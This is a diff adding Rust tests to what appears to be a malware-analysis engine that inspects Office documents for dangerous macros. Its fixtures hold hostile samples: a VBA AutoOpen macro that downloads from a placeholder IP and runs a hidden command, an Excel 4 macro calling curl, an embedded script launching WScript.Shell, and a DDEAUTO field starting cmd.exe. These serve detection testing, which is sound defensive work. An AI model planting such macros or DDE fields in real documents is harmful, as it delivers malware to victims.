@@ -12,6 +12,7 @@
 use watchfire_analysis::{Analysis, Engine, Settings};
 use watchfire_model::{Artifact, Hints, Origin};
 use watchfire_testkit::encode::{base64, utf16le};
+use watchfire_testkit::office;
 use watchfire_testkit::shortcut::{Link, internet_shortcut};
 
 fn analyze(name: &str, bytes: &[u8]) -> Analysis {
@@ -204,4 +205,112 @@ fn encoded_scripts_of_windows_are_decoded() {
         &[],
     );
     assert_eq!(analysis.artifacts.len(), 2);
+}
+
+const LOADING: &str = "Sub AutoOpen()\nDim o: Set o = CreateObject(\"MSXML2.XMLHTTP\")\no.Open \"GET\", \"http://203.0.113.66/a\", False\nShell \"cmd /c x.exe\", vbHide\nEnd Sub\n";
+const HARMLESS: &str = "Sub Total()\nActiveSheet.Range(\"A1\").Value = 1\nEnd Sub\n";
+
+#[test]
+fn macros_of_old_and_new_documents_are_read() {
+    for (name, bytes, prefix) in [
+        (
+            "a.doc",
+            office::doc("", &[("ThisDocument", LOADING), ("Module1", HARMLESS)]),
+            "",
+        ),
+        (
+            "a.docm",
+            office::docm("x", &[("ThisDocument", LOADING), ("Module1", HARMLESS)]),
+            "word/vbaProject.bin ▸ ",
+        ),
+    ] {
+        let modules = [format!("{prefix}ThisDocument.vba"), format!("{prefix}Module1.vba")];
+        let mut children: Vec<&str> = modules.iter().map(String::as_str).collect();
+        if !prefix.is_empty() {
+            children.insert(0, "word/vbaProject.bin");
+        }
+        let analysis = check(
+            name,
+            &bytes,
+            &[("document-active-content", 250), ("document-macro-runs", 700)],
+            &children,
+            &["http://203.0.113.66/a"],
+        );
+        let finding = &analysis.findings[1];
+        assert_eq!(
+            finding.title,
+            format!("'{name}': a macro that begins by itself (AutoOpen) loads and runs something")
+        );
+        assert_eq!(finding.evidence().len(), 3);
+    }
+}
+
+#[test]
+fn ordinary_macros_weigh_little() {
+    let bytes = office::docm(
+        "x",
+        &[
+            (
+                "ThisDocument",
+                "Private Sub Document_Open()\nMsgBox \"Welcome\"\nEnd Sub\n",
+            ),
+            ("Module1", HARMLESS),
+        ],
+    );
+    check(
+        "form.docm",
+        &bytes,
+        &[("document-active-content", 250)],
+        &[
+            "word/vbaProject.bin",
+            "word/vbaProject.bin ▸ ThisDocument.vba",
+            "word/vbaProject.bin ▸ Module1.vba",
+        ],
+        &[],
+    );
+}
+
+#[test]
+fn sources_are_exact_whatever_their_length() {
+    let long: String = (0..3_000)
+        .map(|line| format!("' line {line} {}\n", line * 7919 % 1000))
+        .collect();
+    let project = office::vba_project(&[("Module1", &long)]);
+    let analysis = analyze("vbaProject.bin", &project);
+    let expected = format!("Attribute VB_Name = \"Module1\"\r\n{}", long.replace('\n', "\r\n"));
+    assert_eq!(analysis.artifacts[1].size, expected.len() as u64);
+    assert_eq!(
+        analysis.artifacts[1].sha256,
+        Some(watchfire_model::ArtifactId::of(expected.as_bytes()))
+    );
+}
+
+#[test]
+fn formulas_of_excel_4_macros_are_read() {
+    let bytes = office::xls_macros(
+        "Macro1",
+        &[(110, &["cmd /c curl http://203.0", ".113.66/a"]), (54, &[])],
+    );
+    check(
+        "a.xls",
+        &bytes,
+        &[("document-active-content", 250), ("document-macro-runs", 700)],
+        &[],
+        &["http://203.0.113.66/a"],
+    );
+}
+
+#[test]
+fn embedded_packages_are_artifacts() {
+    let bytes = office::package("Invoice.js", b"new ActiveXObject('WScript.Shell').Run('calc.exe')");
+    check("oleObject1.bin", &bytes, &[], &["Invoice.js"], &[]);
+}
+
+#[test]
+fn commands_of_old_fields_are_found() {
+    let bytes = office::doc(
+        "\u{13} DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \u{14}x\u{15}",
+        &[],
+    );
+    check("a.doc", &bytes, &[("document-active-content", 500)], &[], &[]);
 }
